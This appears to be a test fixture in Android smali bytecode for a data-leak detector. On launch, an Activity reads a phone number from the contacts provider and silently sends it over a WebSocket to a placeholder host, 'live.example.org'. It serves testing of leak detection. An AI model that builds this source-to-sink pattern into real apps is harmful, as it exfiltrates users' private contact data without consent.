# Made by tests/cases/compile.py
.class public final Lcases/sink_websocket/Main;
.super Landroid/app/Activity;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 11
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-virtual {p0}, Lcases/sink_websocket/Main;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v3
    sget-object v4, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const/4 v5, 0x0
    const/4 v6, 0x0
    const/4 v7, 0x0
    const/4 v8, 0x0
    invoke-virtual/range {v3 .. v8}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
    new-instance v3, Lokhttp3/Request$Builder;
    invoke-direct {v3}, Lokhttp3/Request$Builder;-><init>()V
    const-string v4, "wss://live.example.org/feed"
    invoke-virtual {v3, v4}, Lokhttp3/Request$Builder;->url(Ljava/lang/String;)Lokhttp3/Request$Builder;
    move-result-object v3
    invoke-virtual {v3}, Lokhttp3/Request$Builder;->build()Lokhttp3/Request;
    move-result-object v1
    new-instance v3, Lokhttp3/OkHttpClient;
    invoke-direct {v3}, Lokhttp3/OkHttpClient;-><init>()V
    new-instance v4, Lcases/sink_websocket/Main$Quiet;
    invoke-direct {v4}, Lcases/sink_websocket/Main$Quiet;-><init>()V
    invoke-virtual {v3, v1, v4}, Lokhttp3/OkHttpClient;->newWebSocket(Lokhttp3/Request;Lokhttp3/WebSocketListener;)Lokhttp3/WebSocket;
    move-result-object v2
    const/4 v3, 0x0
    invoke-interface {v0, v3}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v3
    invoke-interface {v2, v3}, Lokhttp3/WebSocket;->send(Ljava/lang/String;)Z
    return-void
.end method
